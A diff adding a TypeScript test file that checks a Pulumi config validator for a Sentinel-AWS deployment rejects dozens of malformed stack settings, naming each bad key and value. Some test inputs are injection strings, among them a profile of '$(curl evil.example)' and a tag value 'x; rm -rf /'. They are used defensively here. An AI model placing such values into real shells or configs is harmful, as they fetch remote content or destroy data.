@@ -1,0 +1,133 @@
+// Bad stack config as users meet it: a stack file planned by `npm run plan` (its code, run
+// in this process for speed; planCli.test.ts checks the real process exit). Each case is a
+// different kind of mistake; each must exit 2 with the key path and the bad value named,
+// without a stack trace, and with nothing registered.
+import { mkdtempSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import * as path from "node:path";
+import { expect } from "chai";
+import { stringify } from "yaml";
+import { EXIT, runPlan } from "../src/plan/cli";
+import { account, Json } from "./helpers";
+
+const ROOT = path.resolve(__dirname, "..");
+const DIR = mkdtempSync(path.join(tmpdir(), "sentinel-aws-bad-"));
+
+const base: Json = {
+    "azure-native:location": "westeurope",
+    "sentinel-aws:workspace": { name: "sentinel-test", resourceGroupName: "rg-sentinel-test" },
+    "sentinel-aws:awsAccounts": [account("audit", "111122223333")],
+};
+
+/** A stack file: the valid base with some top-level keys replaced (`undefined` removes one), or raw YAML. */
+function stackFile(stack: string, config: Json | string): string {
+    const file = path.join(DIR, `Pulumi.${stack}.yaml`);
+    if (typeof config === "string") {
+        writeFileSync(file, config);
+    } else {
+        const merged = Object.fromEntries(Object.entries({ ...base, ...config }).filter(([, v]) => v !== undefined));
+        writeFileSync(file, stringify({ config: merged }));
+    }
+    return file;
+}
+
+async function plan(file: string) {
+    let stdout = "";
+    let stderr = "";
+    const code = await runPlan(["--config-file", file], { stdout: (t) => (stdout += t), stderr: (t) => (stderr += t) }, ROOT);
+    return { code, stdout, stderr };
+}
+
+const ws = (extra: Json) => ({ "sentinel-aws:workspace": { name: "sentinel-x", resourceGroupName: "rg", ...extra } });
+const accounts = (...list: Json[]) => ({ "sentinel-aws:awsAccounts": list });
+const one = (extra: Json) => accounts(account("a", "111122223333", extra));
+const manyTags = (prefix: string, n: number) => Object.fromEntries(Array.from({ length: n }, (_, i) => [`${prefix}${i}`, "v"]));
+
+// Each: what is wrong, the config (overrides or raw YAML), the key path the message must
+// name, the bad value (or the rule) it must show, and optionally the stack name.
+const CASES: [what: string, config: Json | string, keyPath: string, shown: string, stack?: string][] = [
+    // Wrong types
+    ["an unquoted account ID with a leading zero, which YAML reads as a number", `config:\n  azure-native:location: westeurope\n  sentinel-aws:workspace: { name: sentinel-x, resourceGroupName: rg }\n  sentinel-aws:awsAccounts:\n    - { name: a, accountId: 012345678901, region: us-east-1 }\n`, "sentinel-aws:awsAccounts[0].accountId", "12345678901"],
+    ["a string where the workspace object belongs", { "sentinel-aws:workspace": "sentinel-dev" }, "sentinel-aws:workspace", '"sentinel-dev"'],
+    ["an object where the account list belongs", { "sentinel-aws:awsAccounts": { name: "a" } }, "sentinel-aws:awsAccounts", '{"name":"a"}'],
+    ["a string where an account entry belongs", accounts("111122223333" as unknown as Json), "sentinel-aws:awsAccounts[0]", '"111122223333"'],
+    ["a non-boolean switch", ws({ protect: "yes" }), "sentinel-aws:workspace.protect", '"yes"'],
+    ["a number where a tag value belongs", { "sentinel-aws:tags": { costCenter: 4711 } }, "sentinel-aws:tags.costCenter", "4711"],
+    ["a non-numeric propagation wait", { "sentinel-aws:iamPropagationSeconds": "soon" }, "sentinel-aws:iamPropagationSeconds", '"soon"'],
+    // Account IDs
+    ["an 11-digit account ID", accounts({ name: "a", accountId: "11112222333", region: "us-east-1" }), "sentinel-aws:awsAccounts[0].accountId", '"11112222333"'],
+    ["an account ID with a space", accounts({ name: "a", accountId: " 111122223333", region: "us-east-1" }), "sentinel-aws:awsAccounts[0].accountId", '" 111122223333"'],
+    ["a short Microsoft account override", { "sentinel-aws:microsoftAccountId": "1978570265" }, "sentinel-aws:microsoftAccountId", '"1978570265"'],
+    ["an account ID equal to Microsoft's", accounts(account("a", "197857026523")), "sentinel-aws:awsAccounts[0].accountId", "197857026523"],
+    // Duplicates
+    ["a duplicate label", accounts(account("a", "111122223333"), account("a", "222233334444")), "sentinel-aws:awsAccounts[1].name", '"a"'],
+    ["a duplicate account ID", accounts(account("a", "111122223333"), account("b", "111122223333")), "sentinel-aws:awsAccounts[1].accountId", '"111122223333"'],
+    // Ranges
+    ["a retention below the minimum", ws({ retentionInDays: 7 }), "sentinel-aws:workspace.retentionInDays", "7"],
+    ["a retention above the maximum", ws({ retentionInDays: 731 }), "sentinel-aws:workspace.retentionInDays", "731"],
+    ["a negative retention", ws({ retentionInDays: -90 }), "sentinel-aws:workspace.retentionInDays", "-90"],
+    ["a fractional retention", ws({ retentionInDays: 90.5 }), "sentinel-aws:workspace.retentionInDays", "90.5"],
+    ["retention on an existing workspace", ws({ existing: true, retentionInDays: 120 }), "sentinel-aws:workspace.retentionInDays", "120"],
+    ["a propagation wait below the minimum", { "sentinel-aws:iamPropagationSeconds": 0 }, "sentinel-aws:iamPropagationSeconds", "0"],
+    ["a propagation wait above the maximum", { "sentinel-aws:iamPropagationSeconds": 3600 }, "sentinel-aws:iamPropagationSeconds", "3600"],
+    // Names
+    ["an invalid role name", one({ roleName: "has space" }), "sentinel-aws:awsAccounts[0].roleName", '"has space"'],
+    ["a role name over 64 characters", one({ roleName: "r".repeat(65) }), "sentinel-aws:awsAccounts[0].roleName", "rrrr"],
+    ["a role name with a Cyrillic look-alike letter, shown escaped", one({ roleName: "Sentinel\u0420ole" }), "sentinel-aws:awsAccounts[0].roleName", "Sentinel\\u0420ole"],
+    ["a stack name too long for the default role name", {}, "sentinel-aws:awsAccounts[0].roleName", "is not a valid IAM role name", "s".repeat(60)],
+    ["an invalid workspace name", ws({ name: "ws_1" }), "sentinel-aws:workspace.name", '"ws_1"'],
+    ["a workspace name carrying a JSON fragment", ws({ name: 'sentinel"},{"x":"' }), "sentinel-aws:workspace.name", 'sentinel\\"},{\\"x\\"'],
+    ["a resource group name carrying a newline", { "sentinel-aws:workspace": { name: "sentinel-x", resourceGroupName: "rg\nsoc" } }, "sentinel-aws:workspace.resourceGroupName", '"rg\\nsoc"'],
+    ["a label with capitals", accounts(account("Audit", "111122223333")), "sentinel-aws:awsAccounts[0].name", '"Audit"'],
+    ["a label carrying a newline", accounts(account("a\nb", "111122223333")), "sentinel-aws:awsAccounts[0].name", '"a\\nb"'],
+    ["a label longer than 32 characters", accounts(account("a".repeat(33), "111122223333")), "sentinel-aws:awsAccounts[0].name", "aaaa"],
+    ["a profile carrying a shell fragment", accounts({ name: "a", accountId: "111122223333", region: "us-east-1", profile: "$(curl evil.example)" }), "sentinel-aws:awsAccounts[0].profile", "$(curl evil.example)"],
+    // Regions and ARNs
+    ["an invalid region", one({ region: "mars-1" }), "sentinel-aws:awsAccounts[0].region", '"mars-1"'],
+    ["a GovCloud region", one({ region: "us-gov-west-1" }), "sentinel-aws:awsAccounts[0].region", "GovCloud"],
+    ["a China region", one({ region: "cn-north-1" }), "sentinel-aws:awsAccounts[0].region", '"cn-north-1"'],
+    ["an Azure location with spaces", { "azure-native:location": "West Europe" }, "azure-native:location", '"West Europe"'],
+    ["a deployment ARN that is not a role", one({ assumeRoleArn: "arn:aws:iam::111122223333:user/bob" }), "sentinel-aws:awsAccounts[0].assumeRoleArn", "user/bob"],
+    ["a deployment role in another account", one({ assumeRoleArn: "arn:aws:iam::999988887777:role/x" }), "sentinel-aws:awsAccounts[0].assumeRoleArn", "999988887777"],
+    ["both a role ARN and a profile", one({ profile: "p" }), "sentinel-aws:awsAccounts[0]", "choose one"],
+    ["a rolePermissions value that is not offered", { "sentinel-aws:rolePermissions": "admin" }, "sentinel-aws:rolePermissions", '"admin"'],
+    // Tags
+    ["a tag value carrying a shell fragment", { "sentinel-aws:tags": { owner: "x; rm -rf /" } }, "sentinel-aws:tags.owner", "rm -rf"],
+    ["a tag name carrying a quote", { "sentinel-aws:tags": { 'own"er': "x" } }, "sentinel-aws:tags", 'own\\"er'],
+    ["a tag value carrying a newline", { "sentinel-aws:tags": { owner: "secops\nadmin" } }, "sentinel-aws:tags.owner", '"secops\\nadmin"'],
+    ["a tag reserved by AWS", { "sentinel-aws:tags": { "aws:createdBy": "x" } }, "sentinel-aws:tags", "aws:createdBy"],
+    ["a tag value over 256 characters", { "sentinel-aws:tags": { note: "n".repeat(300) } }, "sentinel-aws:tags.note", "nnnn"],
+    ["more than 50 stack-wide tags", { "sentinel-aws:tags": manyTags("t", 51) }, "sentinel-aws:tags", "at most 50"],
+    ["more than 50 tags once an account's are merged", { "sentinel-aws:tags": manyTags("s", 30), ...one({ tags: manyTags("a", 30) }) }, "sentinel-aws:awsAccounts[0].tags", "60 tags"],
+    // Sizes
+    ["an empty account list", { "sentinel-aws:awsAccounts": [] }, "sentinel-aws:awsAccounts", "[]"],
+    ["more than 1000 accounts", accounts(...Array.from({ length: 1001 }, (_, i) => account(`a${i}`, String(100000000000 + i)))), "sentinel-aws:awsAccounts", "at most 1000"],
+    // Unknown and missing keys
+    ["a missing workspace", { "sentinel-aws:workspace": undefined }, "sentinel-aws:workspace", "is required"],
+    ["a missing account list", { "sentinel-aws:awsAccounts": undefined }, "sentinel-aws:awsAccounts", "is required"],
+    ["a missing location for a new workspace", { "azure-native:location": undefined }, "azure-native:location", "is required"],
+    ["an unknown top-level key", { "sentinel-aws:awsAcounts": [] }, "sentinel-aws:awsAcounts", "not a known config key"],
+    ["an unknown workspace key", ws({ retention: 90 }), "sentinel-aws:workspace.retention", "not a known config key"],
+    ["an unknown account key", one({ acountId: "1" }), "sentinel-aws:awsAccounts[0].acountId", "not a known config key"],
+    ["a location in the project namespace, where Azure never reads it", { "sentinel-aws:location": "westus" }, "sentinel-aws:location", "not a known config key"],
+];
+
+describe(`bad stack config through npm run plan (${CASES.length} kinds)`, () => {
+    for (const [what, config, keyPath, shown, stack = "check"] of CASES) {
+        it(`refuses ${what}, naming ${keyPath}`, async () => {
+            const { code, stdout, stderr } = await plan(stackFile(stack, config));
+            expect(code, stderr).to.equal(EXIT.badInput);
+            expect(stdout).to.equal("");
+            const line = stderr.split("\n").find((l) => l.includes(`${keyPath}:`) || l.includes(`${keyPath}.`));
+            expect(line, stderr).to.be.a("string");
+            expect(line).to.include(shown);
+            expect(stderr).to.not.match(/\n\s+at /);
+            expect(stderr).to.include("No resource was registered.");
+        });
+    }
+
+    it("accepts the valid base these cases start from (so each refusal is the case's own)", async () => {
+        const { code, stderr } = await plan(stackFile("check", {}));
+        expect(code, stderr).to.equal(EXIT.ok);
+    });
+});
